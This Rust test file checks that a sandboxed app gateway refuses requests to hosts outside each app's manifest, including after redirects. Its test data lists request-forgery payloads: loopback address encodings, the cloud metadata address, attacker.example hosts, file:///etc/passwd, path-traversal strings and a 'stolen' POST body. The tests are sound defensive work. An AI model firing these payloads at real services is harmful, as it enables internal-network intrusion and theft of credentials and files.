//! Where an app of the web may go (REFERENCE, failure 12): the gateway looks at the address, whatever the argument is called.

use bus::message::user::Choice;
use serde_json::{Value, json};
use system_tests::person::Person;
use system_tests::system::{Options, System};
use system_tests::web_server::{Server, ok, redirect};

use super::{Shipped, only, refused};
use crate::reference::{call, plan};

#[test]
fn failure_12_no_argument_by_any_name_reaches_another_host() {
    let shipped = Shipped::new(&["requests"]);
    let runtime = tokio::runtime::Builder::new_multi_thread().worker_threads(1).enable_all().build().unwrap();
    let other = runtime.block_on(Server::plain(|_| ok("reached")));
    // An app whose address comes from arguments that are not called `url`, in every place of a recipe.
    let folder = shipped.folder().join("sly");
    std::fs::create_dir_all(&folder).unwrap();
    let here = shipped.address();
    let manifest = format!(
        "name = \"sly\"\nkind = \"http\"\ndescription = \"\"\n[network]\nlocal = [\"{here}\"]\nmethods = [\"GET\", \"POST\"]\n\
         [[functionality]]\nname = \"go\"\neffect = \"read\"\nrequest = \"go.json\"\nrecipe = \"go.toml\"\n"
    );
    std::fs::write(folder.join("app.toml"), manifest).unwrap();
    let text = json!({"type": "string"});
    let request = json!({"type": "object", "properties": {"endpoint": text, "host": text, "path": text}});
    std::fs::write(folder.join("go.json"), request.to_string()).unwrap();
    let recipe = format!(
        "[[request]]\nname = \"a\"\nmethod = \"POST\"\nbody = \"{{{{ args }}}}\"\n\
         url = \"{{% if args.endpoint %}}{{{{ args.endpoint|safe }}}}{{% elif args.host %}}https://{{{{ args.host|safe }}}}/x\
         {{% else %}}https://{here}/echo/{{{{ args.path }}}}{{% endif %}}\"\n"
    );
    std::fs::write(folder.join("go.toml"), recipe).unwrap();
    let system = shipped.start(&[]);
    let mut person = Person::join(&system, "alice");
    let mut go = |functionality: &str, args: Value| {
        person.ask(&plan(&json!([call("s1", functionality, &args)])), Choice::Once)
    };
    // Control: where the manifest allows it, it goes.
    let outcome = go("sly.go", json!({"endpoint": format!("https://{here}/echo/x")}));
    assert_eq!(only(&outcome)["path"], "/echo/x");
    let port = other.port();
    let others = [
        format!("http://127.0.0.1:{port}/"),
        format!("http://localhost:{port}/"),
        format!("http://127.1:{port}/"),
        format!("http://0x7f000001:{port}/"),
        format!("http://[::1]:{port}/"),
        format!("http://[::ffff:127.0.0.1]:{port}/"),
        format!("http://{here}@127.0.0.1:{port}/"),
        "https://attacker.example/".to_owned(),
        "http://169.254.169.254/latest/meta-data/".to_owned(),
        format!("https://{here}.attacker.example/"),
        "file:///etc/passwd".to_owned(),
    ];
    for url in &others {
        let outcome = go("sly.go", json!({"endpoint": url}));
        let why = refused(&outcome);
        assert!(why.contains("no answer from the web"), "{url}: {why}");
        let plain = url.starts_with("http");
        for method in ["get", "post"].iter().filter(|_| plain) {
            let args = if *method == "get" {
                json!({"url": url})
            } else {
                json!({"url": url, "data": {"stolen": 1}})
            };
            let outcome = go(&format!("requests.{method}"), args);
            assert!(refused(&outcome).contains("no answer from the web"), "{url}: {outcome:#?}");
        }
    }
    for host in [format!("127.0.0.1:{port}"), "localhost".to_owned(), format!("{here}@attacker.example")] {
        refused(&go("sly.go", json!({"host": host})));
    }
    // What is put into a path stays one segment of it.
    let outcome = go("sly.go", json!({"path": format!("@127.0.0.1:{port}/../../gmail/v1?x#y")}));
    assert!(only(&outcome)["path"].as_str().unwrap().starts_with("/echo/%40127"), "{outcome:#?}");
    refused(&go("sly.go", json!({"path": ".."})));
    assert_eq!(*other.connections.lock().unwrap(), 0, "nobody ever connected");
}

#[test]
fn a_redirect_of_an_app_is_held_to_its_manifest() {
    let runtime = tokio::runtime::Builder::new_multi_thread().worker_threads(1).enable_all().build().unwrap();
    let other = runtime.block_on(Server::plain(|_| ok("reached")));
    let to = format!("http://{}/", other.address);
    let first =
        runtime.block_on(Server::plain(
            move |seen| if seen.path() == "/here" { ok("here") } else { redirect(302, &to) },
        ));
    let shipped = Shipped::new(&["requests"]);
    let manifest = shipped.folder().join("requests/app.toml");
    let text = std::fs::read_to_string(&manifest).unwrap();
    std::fs::write(&manifest, text.replace(&shipped.address(), &first.address.to_string())).unwrap();
    let system = shipped.start(&[]);
    let mut person = Person::join(&system, "alice");
    let mut get = |path: &str| {
        let url = format!("http://{}{path}", first.address);
        person.ask(&plan(&json!([call("s1", "requests.get", &json!({"url": url}))])), Choice::Once)
    };
    assert_eq!(*only(&get("/here")), "here", "control");
    let outcome = get("/away");
    assert!(refused(&outcome).contains("no answer from the web"), "{outcome:#?}");
    assert_eq!(*other.connections.lock().unwrap(), 0);
}

#[test]
fn requests_as_they_are_shipped_reach_nothing() {
    let system = System::start(Options::default().set("apps.enabled", "[\"requests\"]"));
    let mut person = Person::join(&system, "alice");
    let get = call("s1", "requests.get", &json!({"url": "https://example.com/"}));
    let outcome = person.ask(&plan(&json!([get])), Choice::Once);
    let why = refused(&outcome);
    assert!(why.contains("[network]"), "the line that would allow it is named: {why}");
}
